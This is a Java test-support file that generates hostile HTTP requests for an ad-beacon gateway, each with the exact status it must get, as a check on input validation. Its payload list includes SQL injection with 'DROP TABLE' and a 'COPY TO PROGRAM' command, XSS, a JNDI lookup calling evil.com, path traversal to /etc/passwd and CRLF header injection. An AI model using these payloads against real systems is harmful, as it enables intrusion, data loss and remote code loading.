package io.adgrid.gateway.server;

import static io.adgrid.gateway.server.RawHttp.ascii;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicLong;
import java.util.stream.Collectors;
import io.adgrid.catalog.Campaign;
import io.adgrid.event.EventType;
import io.adgrid.gateway.TestCatalog;
import io.adgrid.grid.port.Counts;
import io.adgrid.signing.BeaconSigner;

/**
 * Hostile (and a few must-be-accepted) requests for the real gateway, generated as cartesian
 * products of fields x hostile values x transports, each with the exact answer it must get,
 * computed by {@link BeaconOracle} from the decoded parameters, plus hand-written cases for what
 * lives below the parameters (HTTP framing, encodings, sizes, methods, paths, headers, bodies).
 */
final class HostileCases {

    /** Where a beacon's parameters travel. */
    enum Transport { QUERY, QUERY_ALL_ESCAPED, FORM, JSON, SALE_QUERY, NDJSON }

    /**
     * One request and what must come back.
     *
     * @param status          the exact HTTP status
     * @param delta           what the grid totals must move by (zero for every hostile case)
     * @param rejections      how much {@code adgrid.gateway.events{outcome=rejected}} must move by
     * @param lineStatus      for an {@code /events} case of one line, that line's status (0: accepted or none)
     * @param location        for a 302, the only acceptable Location
     */
    record Case(String group, String name, byte[] request, int status, Counts delta, int rejections, int lineStatus, String location) {
    }

    static final long GIGA = 1_000_000_000L;
    private static final Counts NOTHING = new Counts();

    private final long now;
    private final AtomicLong unique = new AtomicLong();
    final List<Case> cases = new ArrayList<>();

    HostileCases(long now) {
        this.now = now;
    }

    // ---- hostile values ------------------------------------------------------------------------

    /** Decoded values put in every field in turn; none is a valid value of the field it replaces. */
    static List<String> hostileValues() {
        List<String> v = new ArrayList<>(List.of(
                // SQL
                "' OR '1'='1", "1 OR 1=1", "7; DROP TABLE counters;--", "1' UNION SELECT secret FROM campaigns--",
                "\"; DELETE FROM counters; --", "' OR 1=1#", "1)) OR ((1=1", "admin'--", "7;SELECT pg_sleep(10)",
                "$$; COPY x TO PROGRAM 'id'; $$", "7' AND '1'='1", "0x7",
                // script, templates, lookups
                "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "';alert(String.fromCharCode(88))//",
                "{{7*7}}", "${7*7}", "#{7*7}", "${jndi:ldap://evil.com/a}", "%s%s%s%n", "<!--", "]]>",
                // paths and redirects
                "../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd", "https://evil.com", "//evil.com",
                "///evil.com", "\\\\evil.com", "http:evil.com", "javascript:alert(document.domain)",
                "data:text/html,<script>alert(1)</script>", "https://example.com@evil.com",
                "https://evil.com#https://example.com/landing/7", "%2F%2Fevil.com", "https:%2F%2Fevil.com", "%0d%0aLocation:%20x",
                // CR LF and control characters
                "7\r\nLocation: https://evil.com", "7\r\nSet-Cookie: a=b", "\r\n\r\n<html>", "7\n", "7\r", "\u0000", "7\u0000",
                "abc\u0000def", "\t7", "7\u000b", "\u001b[31m",
                // Unicode look-alikes and oddities
                "\uff17", "\u0667", "\u202e7", "\u200b7", "7\u200d", "\ud83d\ude00", "\ufffd", "\u00e9", "\u0130", "k\u212a",
                // numbers
                "-1", "0", "-0", "+7", " 7", "7 ", "7.0", "7e0", "1e309", "NaN", "Infinity", "-Infinity",
                "9223372036854775807", "9223372036854775808", "-9223372036854775808", "99999999999999999999999999999999",
                "1.7976931348623157E308", "4.9E-324", "0.1", "1,5", "1_000",
                // empty and JSON-ish
                "", " ", "null", "undefined", "true", "[]", "{}", "[7]", "{\"b\":7}", "\"7\"", "'7'",
                // long values
                "A".repeat(257), "7".repeat(300), "x".repeat(2100), "y".repeat(5000)));
        return v;
    }

    // ---- generated products ------------------------------------------------------------------------

    HostileCases generate() {
        List<String> hostile = hostileValues();
        for (EventType type : List.of(EventType.IMPRESSION, EventType.CLICK)) {
            for (Transport t : List.of(Transport.QUERY, Transport.QUERY_ALL_ESCAPED, Transport.NDJSON)) {
                for (String field : List.of("b", "p", "ts", "n", "sig")) {
                    for (String value : hostile) {
                        replaced("field x value", type, t, field, value);
                    }
                }
            }
        }
        for (Transport t : List.of(Transport.FORM, Transport.JSON, Transport.SALE_QUERY, Transport.NDJSON)) {
            for (String field : List.of("b", "p", "order", "amount", "ts", "n", "sig")) {
                for (String value : hostile) {
                    replaced("field x value", EventType.SALE, t, field, value);
                }
            }
        }
        return this;
    }

    /** A fresh valid beacon of {@code type} whose {@code field} is then replaced (the signature is kept). */
    private void replaced(String group, EventType type, Transport t, String field, String value) {
        Map<String, String> params = validParams(type, 7, 3);
        params.put(field, value);
        add(group, type + " " + t + " " + field + "=" + shorten(value), type, t, pairs(params));
    }

    // ---- hand-written groups (parameter level, expectations from the oracle) ----------------------------

    HostileCases redirectInjection() {
        List<String> names = List.of("u", "url", "redirect", "redirect_uri", "next", "to", "r", "dest", "continue", "return", "landing", "l", "U", "URL");
        List<String> targets = List.of("https://evil.com", "//evil.com", "/\\evil.com", "javascript:alert(1)", "%2F%2Fevil.com",
                "https%3A%2F%2Fevil.com", "\r\nLocation: https://evil.com", "https://example.com/landing/7.evil.com");
        for (String name : names) {
            for (String target : targets) {
                Map<String, String> unsigned = validParams(EventType.CLICK, 7, 3);
                unsigned.put(name, target);
                add("redirect injection", "click + unsigned " + name + "=" + shorten(target), EventType.CLICK, Transport.QUERY, pairs(unsigned));
                Map<String, String> signedToo = validParams(EventType.CLICK, 7, 3);
                signedToo.put(name, target);
                add("redirect injection", "click + signed " + name + "=" + shorten(target), EventType.CLICK, Transport.QUERY,
                        pairs(sign(EventType.CLICK, 7, signedToo)));
            }
        }
        return this;
    }

    HostileCases duplicatedAndSwapped() {
        for (EventType type : EventType.values()) {
            List<Transport> transports = type == EventType.SALE ? List.of(Transport.FORM, Transport.JSON, Transport.NDJSON)
                    : List.of(Transport.QUERY, Transport.NDJSON);
            for (Transport t : transports) {
                Map<String, String> fields = validParams(type, 7, 3);
                for (String field : fields.keySet()) {
                    List<String[]> same = pairs(validParams(type, 7, 3));
                    same.add(new String[] {field, value(same, field)});
                    add("duplicated parameter", type + " " + t + " " + field + " twice", type, t, same);
                    List<String[]> other = pairs(validParams(type, 7, 3));
                    other.add(0, new String[] {field, value(pairs(validParams(type, 8, 4)), field)});
                    add("duplicated parameter", type + " " + t + " " + field + " twice, other value first", type, t, other);
                }
                List<String> names = new ArrayList<>(fields.keySet());
                for (int i = 0; i < names.size(); i++) {
                    for (int j = i + 1; j < names.size(); j++) {
                        Map<String, String> params = validParams(type, 7, 3);
                        String a = params.get(names.get(i));
                        params.put(names.get(i), params.get(names.get(j)));
                        params.put(names.get(j), a);
                        add("swapped parameters", type + " " + t + " " + names.get(i) + "<->" + names.get(j), type, t, pairs(params));
                    }
                }
                List<String[]> many = pairs(validParams(type, 7, 3));
                for (int i = 0; i < 20; i++) {
                    many.add(new String[] {"x" + i, "1"});
                }
                add("too many parameters", type + " " + t + " 20 extra", type, t, many);
            }
        }
        return this;
    }

    HostileCases tamperedAndOutOfWindow() {
        for (EventType type : EventType.values()) {
            Transport t = type == EventType.SALE ? Transport.FORM : Transport.QUERY;
            Map<String, String> base = validParams(type, 7, 3);
            for (String[] change : List.of(new String[] {"b", "8"}, new String[] {"b", "9"}, new String[] {"b", "11"},
                    new String[] {"b", "007"}, new String[] {"p", "4"}, new String[] {"p", "5"}, new String[] {"p", "03"},
                    new String[] {"ts", Long.toString(now - 4_999)}, new String[] {"ts", "0" + (now - 5_000)},
                    new String[] {"n", "h0"}, new String[] {"n", "H1"})) {
                Map<String, String> params = new LinkedHashMap<>(validParams(type, 7, 3));
                params.put(change[0], change[1]);
                add("tampered", type + " " + change[0] + "=" + change[1] + " under the old signature", type, t, pairs(params));
            }
            String sig = base.get("sig");
            for (String forged : List.of(flipLast(sig), sig.substring(0, 42) + (sig.charAt(42) == 'A' ? 'E' : 'A'),
                    validParams(type, 7, 3).get("sig"), "A".repeat(43), sig.substring(1) + "A")) {
                Map<String, String> params = new LinkedHashMap<>(validParams(type, 7, 3));
                params.put("sig", forged);
                add("tampered", type + " forged sig " + forged, type, t, pairs(params));
            }
            Map<String, String> otherSecret = new LinkedHashMap<>(validParams(type, 7, 3));
            otherSecret.remove("sig");
            otherSecret.put("sig", BeaconSigner.sign(TestCatalog.CAMPAIGN_2.key(Campaign.FIRST_KID).spec(), type, otherSecret));
            add("tampered", type + " signed with another campaign's secret", type, t, pairs(otherSecret));
            Map<String, String> guessed = new LinkedHashMap<>(validParams(type, 7, 3));
            guessed.remove("sig");
            guessed.put("sig", BeaconSigner.sign(BeaconSigner.key("demo-secret-7"), type, guessed));
            add("tampered", type + " signed with a guessed secret", type, t, pairs(guessed));
            for (long ts : new long[] {now - 16 * 60_000L, now - 86_400_000L, 0, 1, now + 10 * 60_000L, now + 86_400_000L, 999_999_999_999_999L}) {
                Map<String, String> params = validParams(type, 7, 3);
                params.put("ts", Long.toString(ts));
                add("ts window", type + " signed ts=" + ts, type, t, pairs(sign(type, 7, params)));
            }
            for (long[] ids : new long[][] {{11, 3}, {9, 3}, {7, 5}, {7, 999_999_999_999_999_999L}, {999_999_999_999_999_999L, 3}}) {
                Map<String, String> params = validParams(type, 7, 3);
                params.put("b", Long.toString(ids[0]));
                params.put("p", Long.toString(ids[1]));
                params.remove("sig");
                params.put("sig", BeaconSigner.sign(TestCatalog.CAMPAIGN_1.key(Campaign.FIRST_KID).spec(), type, params));
                add("unknown ids", type + " signed b=" + ids[0] + " p=" + ids[1], type, t, pairs(params));
            }
            Map<String, String> extra = validParams(type, 7, 3);
            extra.put("cb", "123");
            add("unknown parameter", type + " signed extra cb=123", type, t, pairs(sign(type, 7, extra)));
        }
        for (String amount : List.of("-1", "-0.01", "1.1234567", "12.5000000", "1000000000.01", "1000000001", "1" + "0".repeat(30),
                "0.0000000000000000000001", "-" + "9".repeat(100), "9".repeat(200), "NaN", "1e3", "12,50", "\u0661\u0662", "0x10", "Infinity", "")) {
            for (Transport t : List.of(Transport.FORM, Transport.JSON, Transport.NDJSON)) {
                Map<String, String> params = validParams(EventType.SALE, 7, 3);
                params.put("amount", amount);
                add("sale amount", "signed amount=" + shorten(amount) + " " + t, EventType.SALE, t, pairs(sign(EventType.SALE, 7, params)));
            }
        }
        return this;
    }

    private static String flipLast(String sig) {
        char c = sig.charAt(41);
        return sig.substring(0, 41) + (c == 'a' ? 'b' : 'a') + sig.charAt(42);
    }

    /** Valid beacons in harmless variations: every one MUST be accepted and counted exactly once. */
    HostileCases mustBeAccepted() {
        for (EventType type : List.of(EventType.IMPRESSION, EventType.CLICK)) {
            for (List<String> order : permutations(List.of("b", "p", "ts", "n", "sig"))) {
                Map<String, String> params = validParams(type, type == EventType.CLICK ? 8 : 7, 4);
                List<String[]> pairs = new ArrayList<>();
                order.forEach(name -> pairs.add(new String[] {name, params.get(name)}));
                add("accepted: any parameter order", type + " " + order, type, Transport.QUERY, pairs);
            }
            add("accepted: every byte escaped", type + " names and values all %XX", type, Transport.QUERY_ALL_ESCAPED, pairs(validParams(type, 7, 3)));
            add("accepted: NDJSON", type + " one line", type, Transport.NDJSON, pairs(validParams(type, 7, 3)));
            for (String[] decoration : List.of(new String[] {"&&", ""}, new String[] {"&", "&"}, new String[] {"", "&"}, new String[] {"&&&", "&&&"})) {
                List<String[]> pairs = pairs(validParams(type, 7, 3));
                String uri = path(type) + "?" + decoration[0] + query(pairs, false) + decoration[1];
                accepted("accepted: empty parameters", type + " " + uri.substring(0, 4) + "..", type, pairs,
                        ascii("GET " + uri + " HTTP/1.1\r\nHost: gw\r\n\r\n"));
            }
            for (String headers : List.of("Host: evil.com\r\n", "Host: gw\r\nReferer: https://evil.com/\r\n",
                    "Host: gw\r\nX-Forwarded-Host: evil.com\r\nX-Forwarded-Proto: javascript\r\nForwarded: host=evil.com\r\n",
                    "Host: gw\r\nCookie: sid=1; b=8; sig=x\r\n", "Host: gw\r\nUser-Agent: ' OR 1=1 -- <script>\r\n",
                    "Host: gw\r\nX-Forwarded-For: 1.2.3.4, ::1, not-an-ip\r\n", "Host: gw\r\nAccept: */*\r\nAccept-Encoding: gzip, br\r\n",
                    "Host: gw\r\nX-Long: " + "z".repeat(6000) + "\r\n", "Host: gw\r\nConnection: keep-alive\r\n",
                    "Host: gw\r\nContent-Length: 5\r\n\r\nhello", "")) {
                List<String[]> pairs = pairs(validParams(type, 7, 3));
                String request = "GET " + path(type) + "?" + query(pairs, false) + " HTTP/1.1\r\n" + headers + (headers.endsWith("hello") ? "" : "\r\n");
                accepted("accepted: harmless headers", type + " " + shorten(headers), type, pairs, ascii(request));
            }
            List<String[]> http10 = pairs(validParams(type, 7, 3));
            accepted("accepted: HTTP/1.0", type + " HTTP/1.0", type, http10,
                    ascii("GET " + path(type) + "?" + query(http10, false) + " HTTP/1.0\r\n\r\n"));
        }
        for (String amount : List.of("0", "1000000000", "1000000000.000000", "0.000001", "00012.50", "12.500000", "-0", "7")) {
            for (Transport t : List.of(Transport.FORM, Transport.JSON, Transport.SALE_QUERY, Transport.NDJSON)) {
                Map<String, String> params = validParams(EventType.SALE, 7, 3);
                params.put("amount", amount);
                add("accepted: sale amounts", "amount=" + amount + " " + t, EventType.SALE, t, pairs(sign(EventType.SALE, 7, params)));
            }
        }
        Map<String, String> noNonce = validParams(EventType.SALE, 8, 4);
        noNonce.remove("n");
        add("accepted: sale without n", "form", EventType.SALE, Transport.FORM, pairs(sign(EventType.SALE, 8, noNonce)));
        List<String[]> numbers = pairs(validParams(EventType.SALE, 7, 3));
        String json = json(null, numbers).replace("\"amount\":\"12.50\"", "\"amount\":12.50")
                .replace("\"b\":\"7\"", "\"b\":7").replace("\"p\":\"3\"", "\"p\":3");
        accepted("accepted: sale JSON numbers", "numbers as written", EventType.SALE, numbers,
                post("/s", "application/json; charset=UTF-8", json.getBytes(StandardCharsets.UTF_8)));
        List<String[]> spaced = pairs(validParams(EventType.SALE, 7, 3));
        accepted("accepted: sale JSON whitespace", "spaces and newlines", EventType.SALE, spaced,
                post("/s", "application/json", (" \n\t" + json(null, spaced).replace(",", " ,\n ") + "\r\n ").getBytes(StandardCharsets.UTF_8)));
        return this;
    }

    /** A request built by hand whose parameters must be accepted. */
    private void accepted(String group, String name, EventType type, List<String[]> pairs, byte[] request) {
        if (BeaconOracle.status(type, pairs, now) != BeaconOracle.success(type)) {
            throw new IllegalStateException("not a valid beacon: " + name);
        }
        cases.add(new Case(group, name, request, BeaconOracle.success(type), delta(type, pairs), 0, 0,
                type == EventType.CLICK ? landing(pairs) : null));
    }

    /** The same signed beacon sent again: answered like the first time, counted once. */
    /**
     * Contract v2: a beacon signed for one type and sent as another (every path swap, in the URL and
     * as an /events line's type) is a 403 and counts nothing; a v1 signature is a 403 under a v2 key.
     * Under a legacy key (campaign 4, banner 40) v1 still counts, a v1 click as a suspect click.
     */
    HostileCases typeSwaps() {
        for (EventType signedAs : EventType.values()) {
            for (EventType sentAs : EventType.values()) {
                if (sentAs == signedAs) {
                    continue;
                }
                Map<String, String> params = validParams(signedAs, 7, 3);
                Transport url = sentAs == EventType.SALE ? Transport.SALE_QUERY : Transport.QUERY;
                add("type swap", signedAs + " signature sent as " + sentAs, sentAs, url, pairs(params));
                add("type swap", signedAs + " signature in an /events line of type " + sentAs, sentAs, Transport.NDJSON,
                        pairs(validParams(signedAs, 7, 3)));
            }
            for (Transport t : signedAs == EventType.SALE ? List.of(Transport.FORM, Transport.NDJSON) : List.of(Transport.QUERY, Transport.NDJSON)) {
                Map<String, String> v1 = validParams(signedAs, 7, 3);
                v1.remove("sig");
                v1.put("sig", BeaconSigner.signV1(TestCatalog.CAMPAIGN_1.key(Campaign.FIRST_KID).spec(), v1));
                add("type swap", signedAs + " " + t + " v1 signature under a v2 key", signedAs, t, pairs(v1));
                Map<String, String> legacy = validParams(signedAs, 40, 3);
                legacy.remove("sig");
                legacy.put("sig", BeaconSigner.signV1(TestCatalog.CAMPAIGN_4_LEGACY.key(Campaign.FIRST_KID).spec(), legacy));
                add("accepted: legacy v1", signedAs + " " + t + " v1 signature under a legacy key", signedAs, t, pairs(legacy));
                add("accepted: legacy v2", signedAs + " " + t + " v2 signature under a legacy key", signedAs, t, pairs(validParams(signedAs, 40, 3)));
            }
        }
        return this;
    }

    HostileCases replays() {
        for (EventType type : EventType.values()) {
            for (Transport t : type == EventType.SALE ? List.of(Transport.FORM, Transport.JSON, Transport.SALE_QUERY)
                    : List.of(Transport.QUERY, Transport.QUERY_ALL_ESCAPED)) {
                List<String[]> pairs = pairs(validParams(type, 7, 3));
                add("replayed: first", type + " " + t, type, t, pairs);
                int before = cases.size();
                add("replayed", type + " " + t + " again", type, t, pairs);
                add("replayed", type + " " + t + " a third time", type, t, pairs);
                for (int i = before; i < cases.size(); i++) {
                    Case c = cases.get(i);
                    // a re-posted order is a 200 duplicate; a replayed pixel or click is answered as before
                    cases.set(i, new Case(c.group(), c.name(), c.request(), type == EventType.SALE ? 200 : c.status(), NOTHING, 0, 0, c.location()));
                }
            }
            List<String[]> line = pairs(validParams(type, 7, 3));
            add("replayed: first", type + " NDJSON", type, Transport.NDJSON, line);
            int at = cases.size();
            add("replayed", type + " NDJSON again", type, Transport.NDJSON, line);
            Case c = cases.get(at);
            cases.set(at, new Case(c.group(), c.name(), c.request(), 200, NOTHING, 0, 0, null));
        }
        return this;
    }

    private static List<List<String>> permutations(List<String> items) {
        if (items.size() <= 1) {
            return List.of(items);
        }
        List<List<String>> out = new ArrayList<>();
        for (int i = 0; i < items.size(); i++) {
            List<String> rest = new ArrayList<>(items);
            String first = rest.remove(i);
            for (List<String> p : permutations(rest)) {
                List<String> l = new ArrayList<>();
                l.add(first);
                l.addAll(p);
                out.add(l);
            }
        }
        return out;
    }

    // ---- hand-written groups below the parameters (explicit expectations) ------------------------------

    /** A raw request and its exact status; a 4xx counts one rejection, nothing is counted. */
    private void raw(String group, String name, byte[] request, int status) {
        cases.add(new Case(group, name, request, status, NOTHING, status >= 400 ? 1 : 0, 0, null));
    }

    private void raw(String group, String name, String request, int status) {
        raw(group, name, ascii(request), status);
    }

    HostileCases httpLevel() {
        // methods and paths
        Map<String, String> allowed = Map.of("/i", "GET", "/c", "GET", "/s", "POST", "/events", "POST", "/healthz", "GET HEAD");
        for (String path : List.of("/i", "/c", "/s", "/events", "/healthz")) {
            for (String method : List.of("GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "HEAD", "FOO", "get", "Post",
                    "BREW", "PROPFIND", "M-SEARCH", "X".repeat(40))) {
                if (!List.of(allowed.get(path).split(" ")).contains(method)) {
                    raw("method not allowed", method + " " + path, method + " " + path + " HTTP/1.1\r\nHost: gw\r\nContent-Length: 0\r\n\r\n", 405);
                }
            }
        }
        raw("health", "HEAD /healthz", "HEAD /healthz HTTP/1.1\r\nHost: gw\r\n\r\n", 200);
        for (String path : List.of("/", "/x", "/admin", "/i/", "/I", "/C", "/i/../c", "/%69", "/%2Fi", "//i", "/i;b=7", "/i.gif", "/events/",
                "/healthz/x", "*", "http://evil.com/i?b=7", "/.env", "/actuator/prometheus", "/s/1", "/c%3Fb=7",
                "/../../etc/passwd", "/%00", "/i%00", "/" + "a".repeat(1500))) {
            for (String method : List.of("GET", "POST", "DELETE")) {
                raw("unknown path", method + " " + shorten(path), method + " " + path + " HTTP/1.1\r\nHost: gw\r\nContent-Length: 0\r\n\r\n", 404);
            }
        }
        // broken percent-encoding and invalid UTF-8 in every field, in the URL and in a form body
        List<String> broken = List.of("%zz", "%", "%4", "%G1", "%%", "%u0037", "%%37", "7%", "%C3%28", "%FF", "%C0%B7", "%ED%A0%80", "%E2%82",
                "%F8%88%80%80%80", "%80", "7%FF", "%EF%BB%BF7", "7%00", "%0D%0ALocation:%20https://evil.com");
        for (EventType type : EventType.values()) {
            Map<String, String> fields = validParams(type, 7, 3);
            for (String field : fields.keySet()) {
                for (String bad : broken) {
                    Map<String, String> params = validParams(type, 7, 3);
                    String q = params.entrySet().stream().map(e -> e.getKey() + "=" + (e.getKey().equals(field) ? bad : escape(e.getValue(), false)))
                            .collect(Collectors.joining("&"));
                    String request = type == EventType.SALE
                            ? new String(post("/s", "application/x-www-form-urlencoded", ascii(q)), StandardCharsets.ISO_8859_1)
                            : "GET " + path(type) + "?" + q + " HTTP/1.1\r\nHost: gw\r\n\r\n";
                    raw("broken escapes", type + " " + field + "=" + bad, request, 400);
                }
                for (String bad : List.of("\u00ff", "\u00c3\u0028", "\u00e9", "\u0080")) {
                    Map<String, String> params = validParams(type, 7, 3);
                    String q = params.entrySet().stream().map(e -> e.getKey() + "=" + (e.getKey().equals(field) ? e.getValue() + bad : escape(e.getValue(), false)))
                            .collect(Collectors.joining("&"));
                    String request = type == EventType.SALE
                            ? new String(post("/s", "application/x-www-form-urlencoded", ascii(q)), StandardCharsets.ISO_8859_1)
                            : "GET " + path(type) + "?" + q + " HTTP/1.1\r\nHost: gw\r\n\r\n";
                    raw("raw non-ASCII bytes", type + " " + field + " + byte " + shorten(bad), request, 400);
                }
            }
        }
        // the request line itself
        String valid = query(pairs(validParams(EventType.IMPRESSION, 7, 3)), false);
        raw("request line", "raw space in the URL", "GET /i?n=a b&" + valid + " HTTP/1.1\r\nHost: gw\r\n\r\n", 400);
        raw("request line", "CR LF injected in the URL", "GET /i?b=7\r\nLocation: https://evil.com HTTP/1.1\r\nHost: gw\r\n\r\n", 400);
        raw("request line", "LF injected in the URL", "GET /c?b=7\nSet-Cookie: a=b HTTP/1.1\r\nHost: gw\r\n\r\n", 400);
        raw("request line", "unknown HTTP version", "GET /i?" + query(pairs(validParams(EventType.IMPRESSION, 7, 3)), false) + " HTTP/9.9\r\nHost: gw\r\n\r\n", 400);
        raw("request line", "HTTP/2.0 in an HTTP/1 request line", "GET /i?" + query(pairs(validParams(EventType.IMPRESSION, 7, 3)), false)
                + " HTTP/2.0\r\nHost: gw\r\n\r\n", 400);
        raw("request line", "HTTP/0.9 style", "GET /i?" + query(pairs(validParams(EventType.IMPRESSION, 7, 3)), false) + " HTTP/0.9\r\n\r\n", 400);
        raw("request line", "no HTTP version", "GET /i?" + valid + "\r\nHost: gw\r\n\r\n", 400);
        raw("request line", "garbage", "\u0016\u0003\u0001\u0000\u00a5\u0001\u0000\u0000\u00a1\u0003\u0003\r\n\r\n", 400);
        raw("request line", "NUL in the method", "G\u0000T /i?" + valid + " HTTP/1.1\r\nHost: gw\r\n\r\n", 400);
        raw("request line", "request line too long for the decoder", "GET /i?b=" + "7".repeat(9000) + " HTTP/1.1\r\nHost: gw\r\n\r\n", 414);
        raw("request line", "URL just over the limit", "GET /i?b=" + "7".repeat(2050) + " HTTP/1.1\r\nHost: gw\r\n\r\n", 414);
        raw("request line", "long path", "GET /" + "a".repeat(3000) + " HTTP/1.1\r\nHost: gw\r\n\r\n", 414);
        // headers
        raw("headers", "one header of 9000 bytes", "GET /i?" + valid + " HTTP/1.1\r\nHost: gw\r\nX-Big: " + "h".repeat(9000) + "\r\n\r\n", 431);
        StringBuilder many = new StringBuilder();
        for (int i = 0; i < 1000; i++) {
            many.append("X-H").append(i).append(": v\r\n");
        }
        raw("headers", "1000 small headers", "GET /i?" + valid + " HTTP/1.1\r\nHost: gw\r\n" + many + "\r\n", 431);
        raw("headers", "huge cookie", "GET /c?" + valid + " HTTP/1.1\r\nHost: gw\r\nCookie: " + "c=1; ".repeat(3000) + "\r\n\r\n", 431);
        raw("headers", "space in a header name", "GET /i?" + valid + " HTTP/1.1\r\nHost: gw\r\nBad Header: x\r\n\r\n", 400);
        raw("headers", "Content-Length not a number", "POST /s HTTP/1.1\r\nHost: gw\r\nContent-Length: abc\r\n\r\n", 400);
        raw("headers", "negative Content-Length", "POST /s HTTP/1.1\r\nHost: gw\r\nContent-Length: -1\r\n\r\n", 400);
        raw("headers", "two different Content-Length", "POST /s HTTP/1.1\r\nHost: gw\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab", 400);
        // bodies
        String sale = query(pairs(validParams(EventType.SALE, 7, 3)), false);
        raw("body too large", "sale form of 17 KiB", post("/s", "application/x-www-form-urlencoded",
                ascii(sale + "&x=" + "1".repeat(17 * 1024))), 413);
        raw("body too large", "sale JSON of 1 MiB", post("/s", "application/json", ascii("{\"b\":\"" + "7".repeat(1 << 20) + "\"}")), 413);
        raw("body too large", "events over 4 MiB", post("/events", "application/x-ndjson", ascii("{}\n".repeat(4 * 1024 * 1024 / 3 + 2))), 413);
        raw("body too large: chunked", "sale chunked 20 KiB", chunked("/s", "application/x-www-form-urlencoded", 20 * 1024, 1000), 413);
        raw("body too large: chunked", "events chunked 5 MiB", chunked("/events", "application/x-ndjson", 5 * 1024 * 1024, 64 * 1024), 413);
        raw("body too large: declared, not sent", "sale declaring 10 GB", "POST /s HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\nContent-Length: 10000000000\r\n\r\n", 413);
        raw("body too large: declared, not sent", "sale declaring 1 MB, expecting a 100 Continue", "POST /s HTTP/1.1\r\nHost: gw\r\n"
                + "Content-Type: application/json\r\nExpect: 100-continue\r\nContent-Length: 1000000\r\n\r\n", 413);
        raw("body too large: declared, not sent", "events declaring 5 MiB", "POST /events HTTP/1.1\r\nHost: gw\r\nContent-Length: 5242880\r\n\r\n", 413);
        raw("NDJSON lines", "10,001 lines", post("/events", "application/x-ndjson", ascii("{}\n".repeat(10_001))), 413);
        raw("NDJSON lines", "10,001 lines without a final newline", post("/events", "application/x-ndjson", ascii("{}\n".repeat(10_000) + "{}")), 413);
        raw("NDJSON lines", "20,000 empty lines", post("/events", "application/x-ndjson", ascii("\n".repeat(20_000))), 413);
        for (String type : new String[] {null, "text/plain", "multipart/form-data; boundary=x", "application/xml", "image/gif"}) {
            raw("sale content type", "Content-Type " + type, post("/s", type, ascii(sale)), 415);
        }
        return this;
    }

    /** Malformed and truncated JSON, for a sale and as an /events line. */
    HostileCases brokenJson() {
        List<String> bodies = new ArrayList<>(List.of("[]", "null", "{", "}", "{\"b\":", "{\"b\":\"7\"", "{\"b\":{\"x\":1}}", "{\"b\":[7]}",
                "{\"b\":true}", "{\"b\":null}", "{} {}", "{\"b\":NaN}", "{\"b\":Infinity}", "{\"b\":-Infinity}", "{\"amount\":1e400}",
                "{\"b\":\"7\",}", "{'b':'7'}", "{/* c */\"b\":\"7\"}", "{\"b\":\"7\" // c\n}", "[".repeat(1000) + "]".repeat(1000),
                "{\"a\":".repeat(500) + "1" + "}".repeat(500), "\"just a string\"", "7", "{\"b\":\"\\ud800\"}", "{\"b\":\"\\u00\"}",
                "{\"b\":0x7}", "{\"b\":07}", "{\"b\":+7}", "{\"b\":.5}", "{\"b\":" + "9".repeat(100) + "}", "\u00ef\u00bb\u00bf{\"b\":\"7\"}",
                "{\"b\":\"\u00c3\u0028\"}", "{\"\u00ff\":\"7\"}"));
        StringBuilder seventeen = new StringBuilder("{");
        for (int i = 0; i < 17; i++) {
            seventeen.append(i == 0 ? "" : ",").append("\"k").append(i).append("\":\"v\"");
        }
        bodies.add(seventeen.append('}').toString());
        bodies.add("{\"b\":\"" + "7".repeat(5000) + "\"}");
        for (String body : bodies) {
            raw("broken JSON", "sale " + shorten(body), post("/s", "application/json", ascii(body)), 400);
            if (body.indexOf('\n') < 0) {
                ndjsonLine("broken JSON", "line " + shorten(body), ascii(body), 400);
            }
        }
        for (EventType type : EventType.values()) {
            String line = json(type == EventType.SALE ? null : code(type), pairs(validParams(type, 7, 3)));
            String ndjson = json(code(type), pairs(validParams(type, 7, 3)));
            for (int k = 1; k < line.length(); k++) {
                if (type == EventType.SALE) {
                    raw("truncated JSON", "sale cut at " + k, post("/s", "application/json", ascii(line.substring(0, k))), 400);
                } else if (k % 3 == 0) {
                    ndjsonLine("truncated NDJSON", type + " line cut at " + k, ascii(ndjson.substring(0, k)), 400);
                }
            }
        }
        // a valid line next to a broken one: the valid one is counted, the broken one is not
        List<String[]> good = pairs(validParams(EventType.IMPRESSION, 7, 3));
        byte[] mixed = post("/events", "application/x-ndjson", (json("i", good) + "\n{\"type\":\"i\",\"b\":\"7\"\n").getBytes(StandardCharsets.UTF_8));
        cases.add(new Case("NDJSON mixed", "valid line then truncated line", mixed, 200, new Counts(1, 0, 0, 0), 1, 0, null));
        return this;
    }

    private void ndjsonLine(String group, String name, byte[] line, int lineStatus) {
        cases.add(new Case(group, name, post("/events", "application/x-ndjson", line), 200, NOTHING, 1, lineStatus, null));
    }

    static byte[] chunked(String uri, String contentType, int bytes, int chunk) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(bytes + bytes / chunk * 16 + 256);
        out.writeBytes(ascii("POST " + uri + " HTTP/1.1\r\nHost: gw\r\nContent-Type: " + contentType + "\r\nTransfer-Encoding: chunked\r\n\r\n"));
        byte[] data = "7".repeat(chunk).getBytes(StandardCharsets.US_ASCII);
        for (int sent = 0; sent < bytes; sent += chunk) {
            out.writeBytes(ascii(Integer.toHexString(chunk) + "\r\n"));
            out.writeBytes(data);
            out.writeBytes(ascii("\r\n"));
        }
        out.writeBytes(ascii("0\r\n\r\n"));
        return out.toByteArray();
    }

    // ---- building blocks ---------------------------------------------------------------------------

    /** Valid signed parameters of a new rendering (unique nonce and order) on banner {@code b}. */
    Map<String, String> validParams(EventType type, long b, long p) {
        long id = unique.incrementAndGet();
        Map<String, String> params = new LinkedHashMap<>();
        params.put("b", Long.toString(b));
        params.put("p", Long.toString(p));
        params.put("ts", Long.toString(now - 5_000));
        if (type == EventType.SALE) {
            params.put("order", "o-" + id);
            params.put("amount", "12.50");
        }
        params.put("n", "h" + id);
        return sign(type, b, params);
    }

    /** Signed (v2) for {@code type} with the banner's campaign's first key. */
    static Map<String, String> sign(EventType type, long banner, Map<String, String> params) {
